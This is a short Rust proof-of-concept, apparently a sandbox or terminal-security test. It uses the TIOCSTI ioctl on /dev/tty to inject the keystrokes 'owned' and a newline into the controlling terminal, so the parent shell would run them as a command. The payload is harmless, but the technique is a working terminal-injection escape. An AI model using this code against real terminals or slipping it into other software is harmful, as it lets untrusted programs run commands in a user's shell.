//! types a command into the terminal it was started from (TIOCSTI)
fn attack() -> Result<()> {
    let terminal = fs::OpenOptions::new().read(true).write(true).open("/dev/tty")?;
    for letter in b"owned\n" {
        done(unsafe { ioctl(std::os::fd::AsRawFd::as_raw_fd(&terminal), 0x5412, letter) })?;
    }
    Ok(())
}
